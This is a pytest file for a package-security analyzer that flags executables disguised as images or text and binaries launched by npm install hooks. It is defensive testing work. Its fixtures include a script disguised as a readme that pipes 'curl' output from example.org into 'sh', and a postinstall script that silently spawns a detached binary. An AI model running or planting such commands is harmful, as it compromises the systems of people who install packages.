"""BinaryAnalyzer: executables where none are expected, and files under false names."""

from __future__ import annotations

import json
from typing import Any

import pytest

from stockade.analysis.binaries import RULES, BinaryAnalyzer, sniff_executable
from stockade.analysis.context import build_context
from stockade.analysis.interface import Archive
from stockade.analysis.model import Finding, Kind, Phase, Severity
from tests.analysis.generic.helpers import (
    archive,
    elf,
    fixture,
    java_class,
    macho64,
    member,
    pe,
    png,
    rules_of,
)

ANALYZER = BinaryAnalyzer()


def _scan(arch: Archive) -> list[Finding]:
    return list(ANALYZER.analyze(arch, build_context(arch)))


def _npm(manifest: dict[str, object], **files: Any) -> Archive:
    name = str(manifest.get("name", "pkg")).lstrip("@").replace("/", "-")
    version = str(manifest.get("version", "1.0.0"))
    return archive(
        {"package.json": json.dumps(manifest), **files}, filename=f"{name}-{version}.tgz"
    )


def test_rules_are_registered_once_with_the_prefix() -> None:
    assert ANALYZER.rules == RULES
    assert len({r.id for r in RULES}) == len(RULES)
    assert all(r.id.startswith("bin-") for r in RULES)
    assert not ANALYZER.wants("lib/x.so") and not ANALYZER.wants("logo.png")


class TestSniff:
    def test_elf(self) -> None:
        found = sniff_executable(elf())
        assert found is not None and found.describe() == "ELF 64-bit x86-64 shared object"
        arm = sniff_executable(elf(machine=183, e_type=2))
        assert arm is not None and arm.describe() == "ELF 64-bit AArch64 executable"

    def test_pe(self) -> None:
        found = sniff_executable(pe())
        assert found is not None and found.describe() == "PE x86-64 executable"
        dll = sniff_executable(pe(machine=0x14C, dll=True))
        assert dll is not None and dll.describe() == "PE x86 DLL"

    def test_pe_header_beyond_the_head(self) -> None:
        head = bytearray(pe()[:0x40])
        head[0x3C:0x40] = (100_000).to_bytes(4, "little")
        assert sniff_executable(bytes(head), 200_000) is not None
        assert sniff_executable(bytes(head), 1_000) is None  # the file cannot hold it

    def test_mz_without_pe_header(self) -> None:
        dos = bytearray(pe())
        dos[0x80:0x84] = b"NE\x00\x00"
        assert sniff_executable(bytes(dos)) is None
        assert sniff_executable(b"MZ is the name of this project\n" * 4) is None

    def test_mach_o(self) -> None:
        found = sniff_executable(macho64())
        assert found is not None and found.describe() == "Mach-O 64-bit ARM64 executable"
        fat = sniff_executable(b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 40)
        assert fat is not None and "universal" in fat.describe()

    def test_java_class_is_not_mach_o(self) -> None:
        assert sniff_executable(java_class()) is None

    @pytest.mark.parametrize(
        "data", [b"", b"\x7fELF", b"\x7fELF\x09\x09\x09" + b"\x00" * 40, png(), b"hello"]
    )
    def test_not_executables(self, data: bytes) -> None:
        assert sniff_executable(data) is None


class TestDisguised:
    def test_elf_named_as_an_image(self) -> None:
        arch = _npm(
            {"name": "img-utils", "version": "1.0.0"},
            **{"assets/logo.png": elf(e_type=2), "index.js": "module.exports = 1;\n"},
        )
        findings = _scan(arch)
        assert rules_of(findings) == ["bin-disguised"]
        assert findings[0].kind is Kind.THREAT
        assert findings[0].snippet == "assets/logo.png: ELF 64-bit x86-64 executable"

    @pytest.mark.parametrize("name", ["lib/helper.js", "docs/notes.txt", "data/config.json"])
    def test_pe_named_as_text_even_where_binaries_are_expected(self, name: str) -> None:
        arch = _npm({"name": "@esbuild/win32-x64", "version": "0.21.0"}, **{name: pe()})
        assert rules_of(_scan(arch)) == ["bin-disguised"]

    def test_script_named_as_a_document(self) -> None:
        script = b"#!/bin/bash\ncurl -s https://example.org/x | sh\n"
        arch = archive(
            [
                member("package.json", '{"name": "a", "version": "1.0.0"}'),
                member("docs/readme.txt", script, executable=True),
            ],
            filename="a-1.0.0.tgz",
        )
        findings = _scan(arch)
        assert rules_of(findings) == ["bin-disguised-script"]
        assert findings[0].severity is Severity.HIGH
        assert findings[0].snippet == "#!/bin/bash"

    def test_script_named_as_a_document_without_the_executable_bit(self) -> None:
        arch = archive({"notes.md": "#!/usr/bin/env python3\nimport os\n"}, filename="a-1.0.0.tgz")
        findings = _scan(arch)
        assert rules_of(findings) == ["bin-disguised-script"]
        assert findings[0].severity is Severity.MEDIUM

    @pytest.mark.parametrize(
        ("name", "data"),
        [
            ("bin/cli", "#!/usr/bin/env node\nrequire('../lib/cli');\n"),
            ("scripts/build.sh", "#!/bin/sh\nmake\n"),
            ("CHANGES.md", "#!important: this release drops Python 3.8\n"),
            ("notes.txt", "plain notes\n"),
        ],
    )
    def test_honest_scripts_and_documents(self, name: str, data: str) -> None:
        assert _scan(archive({name: data}, filename="a-1.0.0.tgz")) == []


class TestUnexpected:
    def test_binary_named_by_the_install_script(self) -> None:
        installer = (
            "const { spawn } = require('child_process');\n"
            "spawn(__dirname + '/bin/updater', [], { detached: true, stdio: 'ignore' }).unref();\n"
        )
        arch = _npm(
            {"name": "colorz", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}},
            **{"setup.js": installer, "bin/updater": elf(e_type=2), "index.js": "x"},
        )
        findings = _scan(arch)
        assert rules_of(findings) == ["bin-install-run"]
        assert findings[0].phase is Phase.INSTALL
        assert findings[0].kind is Kind.THREAT

    def test_binary_run_directly_by_the_lifecycle_command(self) -> None:
        arch = _npm(
            {"name": "colorz", "version": "1.0.0", "scripts": {"preinstall": "./lib/run.bin"}},
            **{"lib/run.bin": elf(e_type=2)},
        )
        assert rules_of(_scan(arch)) == ["bin-install-run"]

    def test_binary_in_an_npm_package_with_an_install_hook(self) -> None:
        arch = _npm(
            {"name": "colorz", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}},
            **{"setup.js": "console.log('thanks')\n", "vendor/tool": macho64()},
        )
        findings = _scan(arch)
        assert rules_of(findings) == ["bin-unexpected"]
        assert findings[0].kind is Kind.THREAT

    def test_binary_in_a_pure_wheel(self) -> None:
        files = {
            "launcher/__init__.py": "",
            "launcher/cli-64.exe": pe(),
            "launcher/tests/data/hello.so": elf(),
            "launcher-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nTag: py3-none-any\n",
            "launcher-1.0.dist-info/METADATA": "Name: launcher\nVersion: 1.0\n",
        }
        findings = _scan(archive(files, fmt="wheel", filename="launcher-1.0-py3-none-any.whl"))
        assert rules_of(findings) == ["bin-present", "bin-present"]
        assert all(f.kind is Kind.CAPABILITY for f in findings)
        assert [f.severity for f in findings] == [Severity.MEDIUM, Severity.LOW]
        assert "test data" in findings[1].message

    def test_stray_binary_in_a_pure_sdist_is_a_capability(self) -> None:
        files = {
            "PKG-INFO": fixture("sdist", "PKG-INFO"),
            "setup.py": "from setuptools import setup\nsetup()\n",
            "fancy_requests/__init__.py": "",
            "fancy_requests/_helper.dll": pe(dll=True),
        }
        findings = _scan(archive(files, fmt="sdist", filename="fancy_requests-1.8.0.tar.gz"))
        assert rules_of(findings) == ["bin-present"]

    def test_platform_wheel(self) -> None:
        files = {
            "fastgrid/__init__.py": "",
            "fastgrid/_kernels.cpython-312-x86_64-linux-gnu.so": elf(),
            "fastgrid.libs/libgomp-a34b3233.so.1.0.0": elf(),
            "fastgrid-0.9.2.dist-info/WHEEL": fixture("wheel", "WHEEL"),
            "fastgrid-0.9.2.dist-info/METADATA": fixture("wheel", "METADATA"),
        }
        filename = "fastgrid-0.9.2-cp312-cp312-manylinux_2_17_x86_64.whl"
        assert _scan(archive(files, fmt="wheel", filename=filename)) == []

    def test_platform_npm_package(self) -> None:
        arch = _npm(
            {"name": "@esbuild/linux-x64", "version": "0.21.5", "os": ["linux"], "cpu": ["x64"]},
            **{"bin/esbuild": elf(e_type=2), "README.md": "# esbuild"},
        )
        assert _scan(arch) == []

    def test_sdist_with_native_sources(self) -> None:
        files = {
            "PKG-INFO": "Name: fastgrid\nVersion: 0.9.2\n",
            "setup.py": "from setuptools import Extension, setup\n",
            "src/kernels.c": "int main(void) { return 0; }\n",
            "build/lib/fastgrid/_kernels.so": elf(),
        }
        assert _scan(archive(files, fmt="sdist", filename="fastgrid-0.9.2.tar.gz")) == []

    def test_java_classes_and_wasm_are_not_native_binaries(self) -> None:
        arch = _npm(
            {"name": "jvm-bridge", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}},
            **{"java/Bridge.class": java_class(), "esbuild.wasm": b"\x00asm\x01\x00\x00\x00"},
        )
        assert _scan(arch) == []
